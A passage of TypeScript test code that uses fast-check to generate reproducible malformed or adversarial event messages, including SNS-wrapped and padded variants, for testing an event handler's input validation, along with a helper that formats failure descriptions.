    // A variation says what a valid message must do; noise that already made it invalid (another account's bus for
    // a Config event) keeps it a no-start.
    if (out.valid) out.expect = variation.expect;
    out.labels.push(`variation: ${variation.label}`);
  }
  for (const hostile of plan.hostile) applyHostile(doc, fixture, hostile, fixtures, out);
  if (variation?.last) variation.apply(doc, plan.ids);
  let text =
    pad !== undefined
      ? padTo(doc, pad, pretty)
      : expandDeep(JSON.stringify(doc, null, pretty ? 2 : undefined));
  if (plan.sns && pad === undefined) {
    text = snsWrap(text, plan.ids.eventId);
    out.labels.push('SNS-wrapped');
  }
  if (plan.text) text = applyText(text, plan.text, plan.ids.eventId, out);
  return {
    index,
    body: text,
    fixture: fixture.name,
    valid: out.valid,
    expect: out.expect,
    labels: out.labels,
    sqsSafe: SQS_TEXT.test(text) && utf8Bytes(text) <= MAX_EVENT_BYTES && text.length > 0,
  };
}

/** `count` messages, reproducible from `seed`. */
export function generateHostileMessages(seed: number, count: number): HostileMessage[] {
  const fixtures = loadFixtures();
  return fc.sample(planArb, { seed, numRuns: count }).map((plan, index) => build(plan, index, fixtures));
}

/** One line about a message for failure reports: index, fixture, what it is, what was done, the body's start. */
export function describeMessage(m: HostileMessage): string {
  const preview = JSON.stringify(m.body.slice(0, 240));
  return `#${m.index} ${m.fixture} [${m.valid ? 'valid' : 'invalid'}, expect ${m.expect}] ${m.labels.join(' · ')} — body ${preview}${m.body.length > 240 ? '…' : ''} (${m.body.length} chars)`;
}
